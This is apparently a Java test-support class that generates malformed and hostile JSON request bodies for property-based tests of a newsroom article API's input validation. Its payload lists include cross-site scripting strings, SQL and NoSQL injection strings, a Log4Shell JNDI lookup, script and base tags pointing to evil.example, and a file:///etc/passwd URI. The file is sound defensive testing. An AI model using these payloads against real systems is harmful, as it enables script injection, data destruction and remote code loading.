package org.newsroom.command.article.web;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.newsroom.command.article.web.HostileBodiesIT.Field;
import org.newsroom.command.article.web.HostileBodiesIT.HostileRequest;
import org.newsroom.command.article.web.HostileBodiesIT.Kind;
import org.newsroom.command.article.web.HostileBodiesIT.Route;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

/**
 * Generators of request bodies that no route may record. Each poisoned object holds exactly one thing that makes it
 * invalid for its route; everything else in it is valid, so that the refusal is owed to the poison.
 */
final class HostileJson {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String RAW = "RAW-JSON-PLACEHOLDER";

    /** Text that is harmless in a plain-text field, and goes into some of them. */
    private static final List<String> DECORATIONS = List.of(
            "<script>alert(1)</script>",
            "javascript:alert(1)",
            "<img src=x onerror=alert(1)>",
            "'; DROP TABLE articles; --",
            "{{7*7}}",
            "${jndi:ldap://evil/x}",
            "\"><svg onload=alert(1)>",
            "Robert'); db.events.drop(); //",
            "\u202Egnp.exe",
            "&lt;p&gt;");

    private static final List<String> HOSTILE_HTML = List.of(
            "<script>alert(1)</script>",
            "<p>Hi<script src=//evil.example/x.js></script></p>",
            "<img src=x onerror=alert(1)>",
            "<p onclick=\"alert(1)\">Hi</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
            "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
            "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
            "<a href=\"vbscript:msgbox(1)\">x</a>",
            "<iframe src=\"https://evil.example\"></iframe>",
            "<!-- hidden -->",
            "<style>p{}</style>",
            "<svg onload=alert(1)></svg>",
            "<object data=x></object>",
            "<p style=\"color:red\">x</p>",
            "<math><mi>x</mi></math>",
            "<form action=x><input></form>",
            "<body onload=alert(1)>",
            "<table><tr><td>x</td></tr></table>",
            "<![CDATA[x]]>",
            "<meta http-equiv=refresh content=0>",
            "<a href=\"https://\">no host</a>",
            "<base href=\"https://evil.example/\">",
            "<p>unclosed <em>x");
    private static final List<String> HOSTILE_URIS = List.of(
            "javascript:alert(1)",
            "JaVaScRiPt:alert(1)",
            "data:image/svg+xml;base64,PHN2Zz4=",
            "vbscript:msgbox(1)",
            "file:///etc/passwd",
            "//evil.example/x.jpg",
            "ftp://images.example.com/x.jpg",
            "http://",
            "https:///x.jpg",
            "images/x.jpg",
            "http://exa mple.com/x",
            " javascript:alert(1)",
            "mailto:a@example.com",
            "about:blank",
            "https://[::1",
            "%68ttp://x.example");
    private static final List<String> HOSTILE_INSTANTS = List.of(
            "",
            "tomorrow",
            "14:00",
            "2026-13-01T00:00:00Z",
            "2020-01-01T00:00:00Z",
            "1970-01-01T00:00:00Z",
            "2031-01-01");

    private static final List<String> HOSTILE_LANGUAGES = List.of(
            "en_US",
            "123",
            "-en",
            "en-",
            "und",
            "x",
            "e n",
            "en-US-",
            "<script>",
            "javascript:alert(1)",
            "toolonglanguage");
    private static final List<String> HOSTILE_CHANGE_KINDS = List.of(
            "rewrite",
            "UPDATE",
            "Correction",
            " update",
            "update ",
            "",
            "null",
            "<script>alert(1)</script>",
            "javascript:alert(1)",
            "0");
    private static final List<String> UNKNOWN_PROPERTIES = List.of(
            "actor",
            "headlin",
            "id",
            "version",
            "createdBy",
            "__proto__",
            "constructor",
            "$where",
            "",
            " ",
            "a.b",
            "expectedVersion",
            "articleId");

    private HostileJson() {}

    static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    static Object validValue(Field field) {
        return switch (field.kind()) {
            case TEXT -> "Valid " + field.name();
            case HTML -> "<p>A valid <em>body</em>.</p>";
            case URI -> "https://images.example.com/valid.jpg";
            case LANGUAGE -> "it";
            case CHANGE_KIND -> "update";
            case BYLINES -> List.of(Map.of("name", "Valid Name", "role", "author", "affiliation", "AFP"));
            case INSTANT -> Instant.now().plus(Duration.ofDays(1)).toString();
        };
    }

    static Arbitrary<HostileRequest> requests(Route route) {
        Arbitrary<String> validJson = validBodies(route).map(HostileJson::json);
        return Arbitraries.frequencyOf(
                Tuple.of(12, poisonedObjects(route)),
                Tuple.of(3, validJson.flatMap(json -> brokenJson(route, json))),
                Tuple.of(2, wrongTopLevel(route)),
                Tuple.of(1, deepNesting(route)),
                Tuple.of(1, validJson.flatMap(json -> invalidUtf8(route, json))),
                Tuple.of(1, validJson.flatMap(json -> wrongMediaType(route, json))));
    }

    /** Every required field, some optional ones, plain text fields sometimes decorated with script-like text. */
    private static Arbitrary<Map<String, Object>> validBodies(Route route) {
        List<Arbitrary<Object>> values = new ArrayList<>();
        for (Field field : route.fields()) {
            Arbitrary<Object> valid = Arbitraries.just(validValue(field));
            if (field.kind() == Kind.TEXT) {
                valid = Arbitraries.oneOf(
                        valid, Arbitraries.of(DECORATIONS).map(decoration -> (Object) ("Valid " + decoration)));
            }
            Arbitrary<Object> present = valid;
            values.add(
                    field.required()
                            ? present
                            : Arbitraries.frequencyOf(
                                    Tuple.of(3, present), Tuple.of(1, Arbitraries.just(Absent.VALUE))));
        }
        return Combinators.combine(values).as(list -> {
            Map<String, Object> body = new LinkedHashMap<>();
            for (int i = 0; i < list.size(); i++) {
                if (list.get(i) != Absent.VALUE) {
                    body.put(route.fields().get(i).name(), list.get(i));
                }
            }
            return body;
        });
    }

    private enum Absent {
        VALUE
    }

    /** A valid body with exactly one poison: a bad field value, an unknown or duplicated property, a missing field. */
    private static Arbitrary<HostileRequest> poisonedObjects(Route route) {
        List<Arbitrary<Poison>> poisons = new ArrayList<>();
        for (Field field : route.fields()) {
            poisons.add(fieldPoisons(field));
        }
        poisons.add(Arbitraries.of(UNKNOWN_PROPERTIES)
                .map(name -> new Poison("unknown-property", body -> {
                    body.put(name, "x");
                    return json(body);
                })));
        poisons.add(Arbitraries.of(route.fields())
                .map(field -> new Poison("duplicate-key", body -> {
                    String duplicate = json(Map.of(field.name(), validValue(field)));
                    body.putIfAbsent(field.name(), validValue(field));
                    String rest = json(body);
                    return duplicate.substring(0, duplicate.length() - 1) + "," + rest.substring(1);
                })));
        List<Field> required = route.fields().stream().filter(Field::required).toList();
        if (!required.isEmpty()) {
            poisons.add(Arbitraries.of(required)
                    .map(field -> new Poison("missing-" + field.name(), body -> {
                        body.remove(field.name());
                        return json(body);
                    })));
        }
        return Combinators.combine(validBodies(route), Arbitraries.oneOf(poisons))
                .as((body, poison) -> new HostileRequest(
                        route,
                        poison.kind(),
                        "application/json",
                        poison.apply(new LinkedHashMap<>(body)).getBytes(StandardCharsets.UTF_8)));
    }

    /** One bad value for this field, as raw JSON. */
    private static Arbitrary<Poison> fieldPoisons(Field field) {
        List<Arbitrary<String>> raw = new ArrayList<>();
        raw.add(Arbitraries.of(
                "42",
                "-1.5",
                "true",
                "false",
                "1e400",
                "{}",
                "{\"value\":\"x\"}",
                "[]",
                "[\"" + validValue(field).toString().replace("\"", "") + "\"]"));
        if (field.required()) {
            raw.add(Arbitraries.just("null"));
        }
        switch (field.kind()) {
            case TEXT, HTML, URI, LANGUAGE -> {
                raw.add(controlCharacter(String.valueOf(validValue(field))));
                raw.add(Arbitraries.of("\\ud800", "\\udc00", "x\\ud83d", "\\udfff\\ud800")
                        .map(surrogate -> "\"" + validValue(field) + surrogate + "\""));
                if (field.maxLength() > 0) {
                    raw.add(Arbitraries.integers()
                            .between(1, 3_000)
                            .map(extra -> json("x".repeat(field.maxLength() + extra))));
                }
                if (field.nonBlank()) {
                    raw.add(Arbitraries.of("\"\"", "\"   \"", "\"\\t\\n\""));
                }
            }
            default -> {}
        }
        switch (field.kind()) {
            case HTML -> raw.add(Arbitraries.of(HOSTILE_HTML).map(html -> json("<p>Text</p>" + html)));
            case URI -> raw.add(Arbitraries.of(HOSTILE_URIS).map(HostileJson::json));
            case LANGUAGE -> raw.add(Arbitraries.of(HOSTILE_LANGUAGES).map(HostileJson::json));
            case CHANGE_KIND -> raw.add(Arbitraries.of(HOSTILE_CHANGE_KINDS).map(HostileJson::json));
            case BYLINES -> raw.add(hostileBylines());
            case INSTANT -> raw.add(Arbitraries.of(HOSTILE_INSTANTS).map(HostileJson::json));
            default -> {}
        }
        return Arbitraries.oneOf(raw)
                .map(value -> new Poison("bad-" + field.name(), body -> {
                    body.put(field.name(), RAW);
                    return json(body).replace("\"" + RAW + "\"", value);
                }));
    }

    private static Arbitrary<String> controlCharacter(String text) {
        Arbitrary<Character> controls = Arbitraries.oneOf(
                Arbitraries.chars().range('\u0000', '\u0008'),
                Arbitraries.of('\u000B', '\u000C'),
                Arbitraries.chars().range('\u000E', '\u001F'),
                Arbitraries.chars().range('\u007F', '\u009F'));
        return Combinators.combine(controls, Arbitraries.integers().between(0, text.length()))
                .as((control, at) -> json(text.substring(0, at) + control + text.substring(at)));
    }

    private static Arbitrary<String> hostileBylines() {
        Map<String, Object> valid = Map.of("name", "Angus MacKinnon");
        List<Object> eleven = new ArrayList<>();
        for (int i = 0; i < 11; i++) {
            eleven.add(Map.of("name", "Writer " + i));
        }
        List<Object> withNull = new ArrayList<>();
        withNull.add(null);
        return Arbitraries.of(
                json(List.of()),
                json(eleven),
                json(withNull),
                json(List.of(Map.of())),
                json(List.of(Map.of("name", ""))),
                json(List.of(Map.of("name", "  "))),
                json(List.of(Map.of("name", "x".repeat(201)))),
                json(List.of(Map.of("name", "x", "role", 5))),
                json(List.of(valid, Map.of("name", "x", "affilation", "AFP"))),
                json(List.of("Angus")),
                json(List.of(List.of(valid))),
                json(List.of(Map.of("name", "Angus\u0000MacKinnon"))));
    }

    private static Arbitrary<HostileRequest> brokenJson(Route route, String json) {
        Arbitrary<String> broken = Arbitraries.oneOf(
                Arbitraries.integers().between(1, json.length() - 1).map(end -> json.substring(0, end)),
                Arbitraries.chars().range('\u0001', '\u001F').map(control -> "{\"" + control + json.substring(2)),
                Arbitraries.of("x", "}", "]", "{}", ",", "\"", "{\"a\":1}", "null")
                        .map(tail -> json + tail),
                Arbitraries.just(json.contains("\"") ? json.replace('"', '\'') : "{'a':1}"),
                Arbitraries.just("/* comment */" + json),
                Arbitraries.just(
                        json.length() > 2 ? "{\"" + route.fields().get(0).name() + "\": NaN}" : "{NaN}"),
                Arbitraries.strings().ascii().ofMaxLength(200).map(garbage -> "~" + garbage));
        return broken.map(body ->
                new HostileRequest(route, "broken-json", "application/json", body.getBytes(StandardCharsets.UTF_8)));
    }

    private static Arbitrary<HostileRequest> wrongTopLevel(Route route) {
        List<String> bodies = new ArrayList<>(List.of("[]", "[{}]", "\"text\"", "42", "true", "false", "[null]"));
        if (route.bodyRequired()) {
            bodies.add("null");
            bodies.add("");
        }
        return Arbitraries.of(bodies)
                .map(body -> new HostileRequest(
                        route, "wrong-top-level", "application/json", body.getBytes(StandardCharsets.UTF_8)));
    }

    private static Arbitrary<HostileRequest> deepNesting(Route route) {
        String field = route.fields().get(0).name();
        return Combinators.combine(
                        Arbitraries.integers().between(50, 20_000),
                        Arbitraries.integers().between(0, 2))
                .as((depth, shape) -> {
                    String body = switch (shape) {
                        case 0 -> "[".repeat(depth) + "]".repeat(depth);
                        case 1 -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
                        default -> "{\"" + field + "\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
                    };
                    return new HostileRequest(
                            route, "deep-nesting", "application/json", body.getBytes(StandardCharsets.UTF_8));
                });
    }

    private static Arbitrary<HostileRequest> invalidUtf8(Route route, String json) {
        byte[] valid = json.getBytes(StandardCharsets.UTF_8);
        int insideFirstKey = 2;
        return Arbitraries.of(
                        new byte[] {(byte) 0xC3, 0x28},
                        new byte[] {(byte) 0xFF},
                        new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
                        new byte[] {(byte) 0xF8, (byte) 0x88})
                .map(bad -> {
                    byte[] body = new byte[valid.length + bad.length];
                    System.arraycopy(valid, 0, body, 0, insideFirstKey);
                    System.arraycopy(bad, 0, body, insideFirstKey, bad.length);
                    System.arraycopy(
                            valid, insideFirstKey, body, insideFirstKey + bad.length, valid.length - insideFirstKey);
                    return new HostileRequest(route, "invalid-utf8", "application/json", body);
                });
    }

    private static Arbitrary<HostileRequest> wrongMediaType(Route route, String json) {
        List<String> types = List.of(
                "text/plain",
                "application/xml",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/octet-stream",
                "text/html",
                "application/json;charset=bogus-charset",
                "not a media type",
                "none");
        return Arbitraries.of(types)
                .map(type -> new HostileRequest(
                        route,
                        "media-type " + type,
                        type.equals("none") ? null : type,
                        json.getBytes(StandardCharsets.UTF_8)));
    }

    /** Makes a valid body invalid: {@code apply} receives a mutable copy and answers the JSON to send. */
    private record Poison(String kind, java.util.function.Function<Map<String, Object>, String> apply) {
        String apply(Map<String, Object> body) {
            return apply.apply(body);
        }
    }
}
